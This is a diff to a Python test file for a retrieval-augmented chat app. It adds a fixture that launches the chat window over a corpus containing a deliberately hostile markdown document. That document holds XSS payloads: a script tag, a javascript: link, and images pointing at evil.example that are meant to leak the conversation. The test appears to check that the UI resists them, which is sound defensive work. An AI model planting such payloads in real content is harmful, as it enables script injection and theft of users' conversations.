@@ -91,3 +91,50 @@ def planted_index(tmp_path_factory):
     result = run_subprocess("index", corpus, env={"RAG_DATA_DIR": data_dir})
     assert result.returncode == 0, result.stderr
     return data_dir
+
+
+# A document that tries to run script and leak the conversation through images, for the chat window.
+HOSTILE_NAME = "zz_hostile.md"
+HOSTILE = (
+    "# Zorblax river bulletin\n\n"
+    "The Zorblax river floods every spring, the bulletin says. "
+    "<script>alert('xss')</script> <img src=\"https://evil.example/leak.png\"> "
+    "![tracker](https://evil.example/pixel.png?conversation=secret) "
+    "[Click for details](javascript:alert(1)) and **bold claims**.\n\n"
+    "Boats are moved to higher ground before the Zorblax floods arrive.\n"
+)
+
+
+@dataclass
+class ChatApp:
+    url: str
+    config: object
+    app: object
+
+
+def free_port() -> int:
+    import socket
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+@pytest.fixture(scope="session")
+def chat_app(tmp_path_factory):
+    """The chat window launched in this process on a free localhost port, over seeds/ plus a
+    hostile document, with its own (writable) index and upload folder."""
+    from rag.config import RagConfig
+    from ui.launch import launch
+
+    corpus = tmp_path_factory.mktemp("chat-corpus")
+    shutil.copytree(SEEDS, corpus, dirs_exist_ok=True)
+    (corpus / HOSTILE_NAME).write_text(HOSTILE, encoding="utf-8")
+    data_dir = tmp_path_factory.mktemp("chat-index")
+    result = run_subprocess("index", corpus, env={"RAG_DATA_DIR": data_dir})
+    assert result.returncode == 0, result.stderr
+    config = RagConfig(data_dir=data_dir, upload_dir=tmp_path_factory.mktemp("chat-uploads"), ui_port=free_port(),
+                       upload_max_mb=1)
+    app = launch(config, block=False)
+    yield ChatApp(f"http://127.0.0.1:{config.ui_port}/", config, app)
+    app.close()
